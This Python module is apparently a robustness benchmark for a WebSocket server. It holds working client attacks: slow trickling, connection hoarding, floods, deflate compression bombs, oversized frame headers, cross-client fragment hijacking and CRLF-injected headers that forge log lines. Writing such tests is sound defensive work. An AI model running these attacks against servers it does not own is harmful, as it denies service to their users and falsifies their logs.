"""What a client can do to a server, as functions on plain sockets; ``make bench-attacks`` and the tests run them.

Each attack is a function of a target, a number of attackers and the moment until which it may go on; it returns what
became of each attacker:

``"open"``      its connection is still there
``"dropped"``   the server has ended it without a word
``"1009"``      the server has closed it with this code (RFC 6455, section 7.4)
``"HTTP 431"``  the handshake was refused with this status

It returns early when no attacker is left. Nothing here knows the server; no attack needs more than what anybody on the
network can send. The module is long because it is a list: attacks have nothing to do with each other.
"""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import itertools
import os
import re
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterable, Sequence

OPEN, DROPPED = "open", "dropped"
CONT, TEXT, BINARY, CLOSE, PING = 0, 1, 2, 8, 9
NO_LINGER = struct.pack("ii", 1, 0)  # closing sends RST
UNREAD = 16384  # bytes: receive buffer of an attacker that does not read
MOST = 256 * 1024 * 1024  # bytes that a flood sends
DEFLATE = "permessage-deflate; client_max_window_bits"
SECRET = b"SECRET-OF-A"

Fates = list[str]


@dataclasses.dataclass(frozen=True)
class Target:
    """An echo.

    Attributes:
        address: host and port.
        path: of the WebSocket.
        headers: lines that every handshake has.
    """

    address: tuple[str, int]
    path: str = "/ws/echo/"
    headers: tuple[str, ...] = ()


def request(target: Target, headers: Sequence[str] = (), path: str | None = None) -> bytes:
    """Return a handshake; ``headers`` are further lines."""
    lines = [
        f"GET {path or target.path} HTTP/1.1",
        f"Host: {target.address[0]}:{target.address[1]}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        f"Sec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}",
        "Sec-WebSocket-Version: 13",
        *target.headers,
        *headers,
    ]
    return "\r\n".join([*lines, "", ""]).encode("latin-1")


def frame(payload: bytes, opcode: int = TEXT, fin: bool = True, rsv: int = 0, masked: bool = True) -> bytes:
    """Return a frame of a client, masked with zeros, whatever the RFC says of its parts (section 5.2).

    ``rsv``: the three reserved bits, 4 for RSV1.
    """
    size = len(payload)
    mask = 0x80 if masked else 0
    head = bytes([fin << 7 | rsv << 4 | opcode])
    if size < 126:
        head += bytes([mask | size])
    elif size < 65536:
        head += struct.pack("!BH", mask | 126, size)
    else:
        head += struct.pack("!BQ", mask | 127, size)
    return head + (b"\0\0\0\0" if masked else b"") + payload


def announced(size: int, opcode: int = BINARY) -> bytes:
    """Return the header of a frame of ``size`` bytes, none of which follow."""
    return struct.pack("!BBQ", 0x80 | opcode, 0xFF, size) + b"\0\0\0\0"


class Refused(OSError):
    """No WebSocket: the fate of the handshake is in ``args[0]``."""


class Attacker:
    """A connection, open as a WebSocket, that obeys no rule by itself: it answers nothing.

    Args:
        target: the server.
        headers: further lines of the handshake.
        path: instead of the target's.
        unread: whether its receive buffer is small, for attacks that do not read.
        patience: seconds for the handshake.

    Attributes:
        fate: "open" as far as has been read.
        messages: the payloads of the data frames that have been read.

    Raises:
        Refused: if there is no 101.
    """

    def __init__(
        self,
        target: Target,
        headers: Sequence[str] = (),
        path: str | None = None,
        unread: bool = False,
        patience: float = 20.0,
    ) -> None:
        self.fate = OPEN
        self.messages: list[bytes] = []
        self.socket = connect(target.address, patience, unread)
        self._received = bytearray()
        self._pending = b""
        try:
            self.socket.sendall(request(target, headers, path))
            while b"\r\n\r\n" not in self._received:
                data = self.socket.recv(65536)
                if not data:
                    raise Refused(DROPPED)
                self._received += data
            head, _, rest = self._received.partition(b"\r\n\r\n")
            if b" 101 " not in head[:20]:
                raise Refused(f"HTTP {head[9:12].decode()}")
            self.compressed = b"permessage-deflate" in head
        except BaseException:
            self.socket.close()
            raise
        self._received = rest
        self.socket.setblocking(False)

    def push(self, data: bytes) -> bool:
        """Send what the kernel takes of ``data``, behind what it has not taken before; return whether it took all.

        What it does not take now goes first the next time, instead of another ``data``.
        """
        data = self._pending or data
        try:
            taken = self.socket.send(data)
        except BlockingIOError:
            taken = 0
        except OSError:
            self.read()
            if self.fate == OPEN:
                self.fate = DROPPED
            return False
        self._pending = data[taken:]
        return not self._pending

    def read(self) -> None:
        """Read what has arrived, not more than 8 MiB."""
        for _ in range(128):
            try:
                data = self.socket.recv(65536)
            except BlockingIOError:
                break
            except OSError:
                data = b""
            if not data:
                if self.fate == OPEN:
                    self._parse()
                if self.fate == OPEN:
                    self.fate = DROPPED
                return
            self._received += data
        self._parse()

    def _parse(self) -> None:
        received = self._received
        while len(received) >= 2 and self.fate == OPEN:
            size, start = received[1] & 0x7F, 2
            if size == 126:
                size, start = int.from_bytes(received[2:4], "big"), 4
            elif size == 127:
                size, start = int.from_bytes(received[2:10], "big"), 10
            if len(received) < start + size:
                return
            payload, opcode = bytes(received[start : start + size]), received[0] & 0x0F
            del received[: start + size]
            if opcode == CLOSE:
                self.fate = str(int.from_bytes(payload[:2], "big") if payload else 1005)
            elif opcode in (TEXT, BINARY):
                self.messages.append(payload)

    def closing(self, until: float) -> str:
        """Read until the server closes, or ``until``; return the fate."""
        while self.fate == OPEN and time.monotonic() < until:
            self.read()
            time.sleep(0.002)
        return self.fate

    def reset(self) -> None:
        """End the connection as a machine does that is switched off."""
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, NO_LINGER)
        self.socket.close()


def connect(address: tuple[str, int], patience: float, unread: bool = False) -> socket.socket:
    """Return a TCP connection."""
    connection = socket.socket()
    connection.settimeout(patience)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if unread:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, UNREAD)
    connection.connect(address)
    return connection


@contextlib.contextmanager
def attackers(target: Target, count: int, **options):
    """Open ``count`` attackers; those that are refused are left out. At the end all are reset."""
    opened: list[Attacker] = []
    try:
        for _ in range(count):
            with contextlib.suppress(OSError):
                opened.append(Attacker(target, **options))
        yield opened
    finally:
        for attacker in opened:
            attacker.reset()


def flood(each: Sequence[Attacker], data: bytes, until: float, reads: bool = True) -> None:
    """Have each attacker send ``data`` over and over, as fast as the server takes it, while any is open.

    Not more than ``MOST`` bytes in all: the machine must outlive a server that keeps them.
    """
    sent = 0
    while time.monotonic() < until and any(attacker.fate == OPEN for attacker in each):
        idle = True
        for attacker in each:
            if attacker.fate == OPEN and sent < MOST:
                taken = attacker.push(data)
                sent += len(data) * taken
                idle &= not taken
            if attacker.fate == OPEN and reads:
                attacker.read()
                attacker.messages.clear()
        if idle:
            time.sleep(0.001)


def fates(each: Sequence[Attacker], until: float = 0.0) -> Fates:
    """Read what the server has sent to each, if need be until it has closed all; return what became of them."""
    until = max(until, time.monotonic() + 0.5)
    while any(attacker.fate == OPEN for attacker in each) and time.monotonic() < until:
        for attacker in each:
            if attacker.fate == OPEN:
                attacker.read()
        time.sleep(0.005)
    return [attacker.fate for attacker in each]


def once(target: Target, count: int, until: float, *wrong: bytes, **options) -> Fates:
    """Have attackers send one of ``wrong`` each, in turn, and wait for what they get for it."""
    with attackers(target, count, **options) as each:
        for number, attacker in enumerate(each):
            attacker.push(wrong[number % len(wrong)])
        return fates(each, until)


# Slow ones.


def trickle_in_a_frame(target: Target, count: int, until: float) -> Fates:
    """Announce a large message and send it byte by byte, each in a packet of its own, as fast as possible."""
    with attackers(target, count) as each:
        for attacker in each:
            attacker.push(struct.pack("!BBQ", 0x82, 0xFF, 60_000) + b"\0\0\0\0")
        flood(each, b"x", until)
        return fates(each)


def trickle_headers(target: Target, count: int, until: float) -> Fates:
    """Send the handshake byte by byte, two a second."""
    head = request(target, ["X-Slow: " + "x" * 10_000])
    return _linger(target, count, until, (bytes([byte]) for byte in head))


def say_nothing(target: Target, count: int, until: float) -> Fates:
    """Open TCP connections, and send nothing at all."""
    return _linger(target, count, until, itertools.repeat(b""))


def _linger(target: Target, count: int, until: float, parts: Iterable[bytes]) -> Fates:
    """Send the next of ``parts`` on each connection every half second; tell which the server still has at the end."""
    connections = []
    gone = 0
    for _ in range(count):
        with contextlib.suppress(OSError):
            connections.append(connect(target.address, 1))
    for part in parts:
        for connection in list(connections):
            connection.setblocking(False)
            try:
                if part:
                    connection.send(part)
                ended = not connection.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                ended = True
            if ended:
                connections.remove(connection)
                connection.close()
                gone += 1
        if time.monotonic() > until or not connections:
            break
        time.sleep(0.5)
    for connection in connections:
        connection.close()
    return [DROPPED] * gone + [OPEN] * len(connections)


# Those that do not answer.


def never_read(target: Target, count: int, until: float, size: int = 4000) -> Fates:
    """Ask for much and read nothing: messages to the echo, 90 a second, which of this size is within RATE_LIMIT."""
    message = frame(b"x" * size, BINARY)
    with attackers(target, count, unread=True) as each:
        while time.monotonic() < until and any(attacker.fate == OPEN for attacker in each):
            for attacker in each:
                if attacker.fate == OPEN:
                    attacker.push(message)
            time.sleep(1 / 90)
        return fates(each)


def never_answer_pings(target: Target, count: int, until: float) -> Fates:
    """Open a WebSocket and say nothing any more, as a machine does that has lost its network."""
    with attackers(target, count) as each:
        while time.monotonic() < until:
            for attacker in each:
                if attacker.fate == OPEN:
                    attacker.read()
            if all(attacker.fate != OPEN for attacker in each):
                break
            time.sleep(0.1)
        return fates(each)


def never_answer_a_close(target: Target, count: int, until: float) -> Fates:
    """Make the server close (an opcode that there is not), then neither answer nor hang up, and wait to be dropped."""
    with attackers(target, count) as each:
        for attacker in each:
            attacker.push(frame(b"x", opcode=3))
        ended: list[Attacker] = []
        while len(ended) < len(each) and time.monotonic() < until:
            for attacker in each:
                if attacker not in ended and _reset_by_peer(attacker):
                    ended.append(attacker)
            time.sleep(0.1)
        return [DROPPED if attacker in ended else OPEN for attacker in each]


def _reset_by_peer(attacker: Attacker) -> bool:
    """Send a byte, to see whether the server still has the connection."""
    attacker.push(b"x")
    try:
        attacker.socket.send(b"x")
    except BlockingIOError:
        return False
    except OSError:
        return True
    return False


def half_close(target: Target, count: int, until: float) -> Fates:
    """End the outgoing half of the connection, without a close frame, and keep the other one."""
    with attackers(target, count) as each:
        for attacker in each:
            attacker.socket.shutdown(socket.SHUT_WR)
        return fates(each, until)


def reset_in_a_frame(target: Target, count: int, until: float) -> Fates:
    """Send half a frame and reset the connection."""
    with attackers(target, count) as each:
        for attacker in each:
            attacker.push(frame(b"x" * 1000)[:500])
    return ["gone"] * len(each)


# Floods.


def one_byte_fragments(target: Target, count: int, until: float) -> Fates:
    """One message for ever, in fragments of one byte."""
    return _fragments(target, count, until, b"x", 1000)


def empty_fragments(target: Target, count: int, until: float) -> Fates:
    """One message for ever, in fragments without a byte."""
    return _fragments(target, count, until, b"", 1000)


def endless_message(target: Target, count: int, until: float) -> Fates:
    """One message without an end, in fragments of 32 KiB."""
    return _fragments(target, count, until, b"x" * 32768, 4)


def _fragments(target: Target, count: int, until: float, payload: bytes, at_once: int) -> Fates:
    with attackers(target, count) as each:
        for attacker in each:
            attacker.push(frame(b"x", fin=False))
        flood(each, frame(payload, CONT, fin=False) * at_once, until)
        return fates(each)


def ping_flood(target: Target, count: int, until: float) -> Fates:
    """Pings with 125 bytes each, as fast as possible; the pongs are not read."""
    with attackers(target, count, unread=True) as each:
        flood(each, frame(b"p" * 125, PING) * 500, until, reads=False)
        return fates(each)


def message_flood(target: Target, count: int, until: float) -> Fates:
    """Messages of 10 bytes, as fast as possible; the echoes are read."""
    with attackers(target, count) as each:
        flood(each, frame(b"0123456789") * 4000, until)
        return fates(each)


def steady_messages(target: Target, count: int, until: float) -> Fates:
    """As many messages as are allowed for ever, by the default of RATE_LIMIT: no fault, but what it costs."""
    return _steady(target, count, until, frame(b"0123456789"))


def steady_large_messages(target: Target, count: int, until: float) -> Fates:
    """The same with messages as large as are allowed, each of which counts as many."""
    return _steady(target, count, until, frame(b"0123456789abcdef" * 4096), 5)


def steady_compressed_messages(target: Target, count: int, until: float) -> Fates:
    """The same, compressed: inflating and deflating is work for the server alone."""
    small = frame(_deflated(os.urandom(32768).hex().encode()), rsv=4)  # hard work for the compressor
    return _steady(target, count, until, small, 5, headers=[f"Sec-WebSocket-Extensions: {DEFLATE}"])


def _steady(target: Target, count: int, until: float, data: bytes, rate: float = 95, **options) -> Fates:
    with attackers(target, count, **options) as each:
        due = time.monotonic()
        while time.monotonic() < until and any(attacker.fate == OPEN for attacker in each):
            for attacker in each:
                if attacker.fate == OPEN:
                    attacker.push(data)
                    attacker.read()
                    attacker.messages.clear()
            due += 1 / rate
            time.sleep(max(0.0, due - time.monotonic()))
        return fates(each)


# Bombs.


def compression_bomb(target: Target, count: int, until: float) -> Fates:
    """10 MB in 10 KB (RFC 7692); where the server does not compress, the same bytes."""
    return once(target, count, until, frame(_bomb(), rsv=4), headers=[f"Sec-WebSocket-Extensions: {DEFLATE}"])


def compression_bomb_in_fragments(target: Target, count: int, until: float) -> Fates:
    """The same in fragments of 100 bytes."""
    bomb = _bomb()
    parts = [bomb[start : start + 100] for start in range(0, len(bomb), 100)]
    last = len(parts) - 1
    data = b"".join(
        frame(part, CONT if number else TEXT, fin=number == last, rsv=0 if number else 4)
        for number, part in enumerate(parts)
    )
    return once(target, count, until, data, headers=[f"Sec-WebSocket-Extensions: {DEFLATE}"])


def _bomb(size: int = 10_000_000) -> bytes:
    return _deflated(b"0" * size)


def _deflated(payload: bytes) -> bytes:
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (deflate.compress(payload) + deflate.flush(zlib.Z_SYNC_FLUSH)).removesuffix(b"\x00\x00\xff\xff")


def ended_stream(target: Target, count: int, until: float) -> Fates:
    """A compressed message whose stream ends (BFINAL, RFC 1951, section 3.2.3), and noise behind it."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = deflate.compress(b"hello") + deflate.flush(zlib.Z_FINISH) + os.urandom(60_000)
    return once(target, count, until, frame(data, rsv=4), headers=[f"Sec-WebSocket-Extensions: {DEFLATE}"])


def announce_much(target: Target, count: int, until: float) -> Fates:
    """The header of a frame of 2^63 bytes, and of one of a byte less."""
    return once(target, count, until, announced(1 << 63), announced((1 << 63) - 1))


# Frames against the RFC.


def garbage(target: Target, count: int, until: float) -> Fates:
    """64 KiB of noise."""
    # A first byte that no client may send: by chance noise can begin with the header of a large, valid frame.
    return once(target, count, until, *(b"\xff" + os.urandom(65535) for _ in range(8)))


def stray_continuation(target: Target, count: int, until: float) -> Fates:
    """A continuation frame, and nothing to continue."""
    return once(target, count, until, frame(b"x", CONT))


def interleaved_fragments(target: Target, count: int, until: float) -> Fates:
    """In pairs: one client begins a message, another one continues it. "foreign data" is the other's fragment."""
    result = []
    for _ in range(max(1, count // 2)):
        with attackers(target, 2) as pair:
            if len(pair) < 2:
                continue
            victim, thief = pair
            victim.push(frame(SECRET, fin=False))
            time.sleep(0.002)  # both clients' bytes must not arrive in the other order
            thief.push(frame(b"-tail", CONT))
            give_up = min(until, time.monotonic() + 2)
            while thief.fate == OPEN and not thief.messages and time.monotonic() < give_up:
                thief.read()
                time.sleep(0.001)
            result.append("foreign data" if any(SECRET in message for message in thief.messages) else thief.fate)
    return result


def invalid_utf8(target: Target, count: int, until: float) -> Fates:
    """Text that is none; also in two fragments."""
    halves = frame(b"\xc3", fin=False) + frame(b"\x28", CONT)
    return once(target, count, until, frame(b"\xff\xfe"), halves, frame(b"\xed\xa0\x80"))


def unmasked(target: Target, count: int, until: float) -> Fates:
    """A frame without a mask."""
    return once(target, count, until, frame(b"hello", masked=False))


def reserved(target: Target, count: int, until: float) -> Fates:
    """Each reserved bit and each reserved opcode."""
    wrong = [frame(b"x", rsv=bit) for bit in (1, 2, 4)]
    wrong += [frame(b"x", opcode=opcode) for opcode in (3, 7, 11, 15)]
    return once(target, count, until, *wrong)


def large_control_frame(target: Target, count: int, until: float) -> Fates:
    """A ping with 126 bytes, a ping in fragments, a close frame with half a code."""
    wrong = (frame(b"x" * 126, PING), frame(b"x", PING, fin=False), frame(b"\x03", CLOSE))
    return once(target, count, until, *wrong)


# Many.


def many_connections(target: Target, count: int, until: float) -> Fates:
    """Open connections, keep them, and want more; with what headers the target has."""
    return _hoard(target, [target.path] * count, until)


def many_channels(target: Target, count: int, until: float) -> Fates:
    """The same, each to a long facility of its own, whose channels the server has to subscribe to."""
    facilities = [f"{number:05}".ljust(250, "x") for number in range(count)]
    return _hoard(target, [f"/ws/{each}?subscribe-broadcast&subscribe-session" for each in facilities], until)


def _hoard(target: Target, paths: Sequence[str], until: float) -> Fates:
    refused: Fates = []
    each: list[Attacker] = []
    try:
        for path in paths:
            if time.monotonic() > until or refused[-1:] == ["no answer"]:
                break
            try:
                each.append(Attacker(target, path=path, patience=5))
            except Refused as refusal:
                refused.append(str(refusal.args[0]))
            except OSError:
                refused.append("no answer")
        return fates(each) + refused
    finally:
        for attacker in each:
            attacker.reset()


def hoard_closing_connections(target: Target, count: int, until: float) -> Fates:
    """Open connections, have the server close each at once, and never hang up: those that it waits for add up."""
    result: Fates = []
    each: list[Attacker] = []
    try:
        while len(result) < count and time.monotonic() < until:
            try:
                each.append(Attacker(target, patience=5))
                each[-1].push(frame(b"x", opcode=3))
                result.append(each[-1].closing(time.monotonic() + 5))
            except Refused as refusal:
                result.append(str(refusal.args[0]))
            except OSError:
                result.append("no answer")
        return result
    finally:
        for attacker in each:
            attacker.reset()


def connect_and_leave(target: Target, count: int, until: float) -> Fates:
    """Handshake after handshake, each connection reset at once."""
    result = []
    while time.monotonic() < until:
        batch = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                connection = connect(target.address, 5)
                connection.sendall(request(target))
                batch.append(connection)
        for connection in batch:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, NO_LINGER)
            connection.close()
            result.append("gone")
        time.sleep(0.005)
    return result


# Handshakes.


def handshake(target: Target, data: bytes, patience: float = 10.0) -> str:
    """Send ``data`` and return what the server answers."""
    connection = connect(target.address, patience)
    try:
        connection.sendall(data)
        answer = b""
        while b"\r\n" not in answer:
            received = connection.recv(65536)
            if not received:
                return DROPPED
            answer += received
        status = re.match(rb"HTTP/1\.[01] (\d+)", answer)
        return OPEN if status and status[1] == b"101" else f"HTTP {status[1].decode()}" if status else "garbage"
    except TimeoutError:
        return "no answer"
    except OSError:
        return DROPPED
    finally:
        connection.close()


def handshakes(target: Target, count: int, until: float, *data: bytes) -> Fates:
    """Send each of ``data`` in turn, ``count`` in all."""
    return [handshake(target, data[number % len(data)]) for number in range(count) if time.monotonic() < until]


def large_header(target: Target, count: int, until: float) -> Fates:
    """A header, and a query string, of 64 KiB."""
    header = request(target, ["X-Large: " + "x" * 65536])
    return handshakes(target, count, until, header, request(target, path=f"{target.path}?{'x' * 65536}"))


def long_header(target: Target, count: int, until: float) -> Fates:
    """A handshake header, and a query string, of 5,000 bytes: uWSGI's own buffer lets them through."""
    header = request(target, ["Origin: http://" + "x" * 5000])
    return handshakes(target, count, until, header, request(target, path=f"{target.path}?{'x' * 5000}"))


def long_facility(target: Target, count: int, until: float) -> Fates:
    """A facility of 300 bytes, as it is and percent-encoded."""
    data = [request(target, path=f"/ws/{'x' * 300}"), request(target, path=f"/ws/{'%78' * 300}")]
    return handshakes(target, count, until, *data)


def many_subprotocols(target: Target, count: int, until: float) -> Fates:
    """1,000 subprotocols."""
    names = ", ".join(f"protocol-{number}" for number in range(1000))
    return handshakes(target, count, until, request(target, [f"Sec-WebSocket-Protocol: {names}"]))


def control_characters(target: Target, count: int, until: float) -> Fates:
    """Control characters in the headers of the handshake."""
    odd = [f"Sec-WebSocket-Protocol: a{chr(code)}b" for code in (0, 1, 8, 11, 127)]
    return handshakes(target, count, until, *(request(target, [line]) for line in odd))


def duplicate_headers(target: Target, count: int, until: float) -> Fates:
    """Each header of the handshake twice."""
    twice = ["Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Version: 8", "Host: elsewhere.example"]
    return handshakes(target, count, until, *(request(target, [line]) for line in twice))


FORGED = "forged: GET /admin/ => root has signed in"


def forge_log(target: Target, count: int, until: float) -> Fates:
    """A URL, and headers, with line breaks that would make a line of their own in the log."""
    encoded = FORGED.replace(" ", "%20")
    data = [
        request(target, path=f"{target.path}x%0d%0a{encoded}%0a"),
        request(target, path=f"{target.path}?x=%0a{encoded}%0a"),
        request(target, [f"User-Agent: x\n{FORGED}\n"]),
        request(target, [f"Origin: http://x\r{FORGED}\r"]),
    ]
    return handshakes(target, count, until, *data)


def forged(log: str) -> bool:
    """Tell whether a line of ``log`` begins with what ``forge_log`` wants there."""
    return any(line.startswith("forged:") for line in log.splitlines())


@dataclasses.dataclass(frozen=True)
class Attack:
    """How an attack is measured.

    Attributes:
        run: the attack.
        words: what it is, for the table.
        count: attackers.
        seconds: how long it goes on.
        again: when no attacker is left before, all come back after ``PAUSE``.
        session: attackers are signed in, all as the same user.
        router: attackers and neighbour come through uWSGI's http router.
        address: attackers come from one address, as far as the server believes its proxy.
    """

    run: Callable[[Target, int, float], Fates]
    words: str
    count: int = 10
    seconds: float = 4.0
    again: bool = True
    session: bool = False
    router: bool = False
    address: bool = False


PAUSE = 0.5  # seconds

ATTACKS = (
    Attack(trickle_in_a_frame, "trickles one byte at a time inside a frame", 50),
    Attack(trickle_headers, "trickles the handshake's headers, http-socket", 150, 10),
    Attack(trickle_headers, "trickles the handshake's headers, http", 150, 10, router=True),
    Attack(say_nothing, "1,200 connections that say nothing, http", 1200, 14, again=False, router=True),
    Attack(never_read, "never reads what it asks for", 20, 20, again=False),
    Attack(never_answer_pings, "never answers pings", 50, 50, again=False),
    Attack(never_answer_a_close, "never answers a close", 50, 14, again=False),
    Attack(half_close, "half-closes", 50),
    Attack(reset_in_a_frame, "resets in mid-frame", 50),
    Attack(garbage, "sends garbage"),
    Attack(one_byte_fragments, "1-byte fragments for ever"),
    Attack(empty_fragments, "empty fragments for ever"),
    Attack(endless_message, "a message without end, in fragments", 4),
    Attack(announce_much, "announces a frame of 2^63 bytes"),
    Attack(ping_flood, "ping flood, pongs not read", 10, 14, again=False),
    Attack(message_flood, "message flood"),
    Attack(steady_messages, "as many messages as are allowed"),
    Attack(steady_large_messages, "the same, of 64 KiB"),
    Attack(steady_compressed_messages, "the same, of 64 KiB, compressed"),
    Attack(compression_bomb, "compression bomb, 10 MB in 10 KB"),
    Attack(compression_bomb_in_fragments, "compression bomb in fragments"),
    Attack(ended_stream, "compressed data behind the end of its stream"),
    Attack(stray_continuation, "continuation of nothing"),
    Attack(interleaved_fragments, "continues another client's message"),
    Attack(invalid_utf8, "text that is not UTF-8"),
    Attack(unmasked, "frames without mask"),
    Attack(reserved, "reserved bits and opcodes", 14),
    Attack(large_control_frame, "oversized control frames"),
    Attack(many_connections, "2,000 connections from one address", 2000, 20, again=False, address=True),
    Attack(many_connections, "500 connections of one user", 500, 20, again=False, session=True),
    Attack(hoard_closing_connections, "1,000 connections that never end closing", 1000, 20, again=False, address=True),
    Attack(many_channels, "1,000 connections, each to its own facility", 1000, 20, again=False),
    Attack(connect_and_leave, "handshake, reset, and again", 10),
    Attack(large_header, "headers and query of 64 KiB"),
    Attack(long_header, "headers and query of 5,000 bytes"),
    Attack(long_facility, "a facility of 300 bytes"),
    Attack(many_subprotocols, "1,000 subprotocols"),
    Attack(control_characters, "control characters in headers"),
    Attack(duplicate_headers, "duplicate headers", 12),
    Attack(forge_log, "URL and headers that forge a log line", 8),
)
